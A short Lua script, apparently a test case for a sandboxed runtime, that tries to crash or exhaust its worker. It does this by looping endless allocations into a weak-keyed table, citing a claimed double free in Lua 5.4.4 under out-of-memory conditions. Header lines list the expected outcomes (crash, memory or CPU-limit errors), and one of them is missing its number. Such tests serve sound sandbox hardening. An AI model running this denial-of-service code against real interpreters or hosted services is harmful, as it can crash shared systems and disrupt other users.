-- attack: crash, 100 ms
-- ends: killed crashed its worker
-- ends: error MB of memory
-- ends: error used more than 100 ms of CPU time
-- Lua 5.4.4 frees twice when memory runs out under a weak metatable.
local mt = {}
local t = setmetatable({}, mt)
mt.__mode = "kv"
mt.__newindex = setmetatable({}, { __newindex = function(_, k, v) rawset(t, k, v) end })
while true do
  pcall(function() for i = 1, 1e9 do t[{}] = { ("x"):rep(1000) .. i } end end)
end
